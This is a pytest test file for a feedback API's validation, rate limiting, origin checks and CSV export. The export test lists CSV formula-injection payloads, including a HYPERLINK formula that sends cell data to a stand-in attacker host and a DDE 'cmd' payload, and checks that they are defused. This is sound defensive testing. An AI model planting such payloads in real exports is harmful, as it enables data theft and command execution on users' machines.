"""Feedback: validated, rate-limited in a bucket of its own, origin-checked; CSV export defuses formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from advisor.feedback import FeedbackStore, csv_safe
from tests.security.policy_helpers import PARTNER, client, is_error

GOOD = {"question": "Do I need a degree?", "answer": "Not always [1].", "rating": 1}
CHAT = {"message": "Do I need a degree?"}


@pytest.mark.parametrize("bad", [
    {"question": "   \n\t "}, {"rating": True}, {"rating": False}, {"rating": "1"}, {"rating": 1.0}, {"rating": 0},
])
def test_feedback_is_validated(tmp_path: Path, bad: dict[str, object]) -> None:
    c = client(tmp_path)
    assert is_error(c.post("/api/feedback", json=GOOD | bad), 422, "validation_error")
    assert c.post("/api/feedback", json=GOOD).status_code == 200
    assert c.post("/api/feedback", json=GOOD | {"rating": -1}).status_code == 200


def test_feedback_has_its_own_rate_bucket(tmp_path: Path) -> None:
    c = client(tmp_path, rate_limit_ip=2, rate_limit_session=0, rate_limit_feedback=3)
    assert [c.post("/api/chat", json=CHAT).status_code for _ in range(3)] == [200, 200, 429]
    # The chat budget is spent; feedback still has its own, and spending it leaves chat's untouched.
    assert [c.post("/api/feedback", json=GOOD).status_code for _ in range(4)] == [200, 200, 200, 429]
    assert is_error(c.post("/api/feedback", json=GOOD), 429, "rate_limited")


def test_feedback_checks_the_origin(tmp_path: Path) -> None:
    c = client(tmp_path)
    assert is_error(c.post("/api/feedback", json=GOOD, headers={"Origin": "https://evil.example"}),
                    403, "origin_not_allowed")
    assert c.post("/api/feedback", json=GOOD, headers={"Origin": PARTNER}).status_code == 200


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(A1:A2)", "\t=1+1", "  =1+1", "\r=1"])
def test_csv_export_neutralises_formulas(tmp_path: Path, payload: str) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    store.add(payload, payload, [payload], -1, payload)
    rows = list(csv.DictReader(io.StringIO(store.export("csv"))))
    assert len(rows) == 1
    for field in ("question", "answer", "chunk_ids", "comment"):
        assert rows[0][field] == "'" + payload, field
    assert rows[0]["rating"] == "-1"  # numbers stay numbers
    assert store.rows()[0]["question"] == payload  # stored as sent; only the export is defused


def test_csv_safe_leaves_ordinary_text_alone() -> None:
    assert csv_safe("How much do ML engineers earn?") == "How much do ML engineers earn?"
    assert csv_safe("a=b") == "a=b"
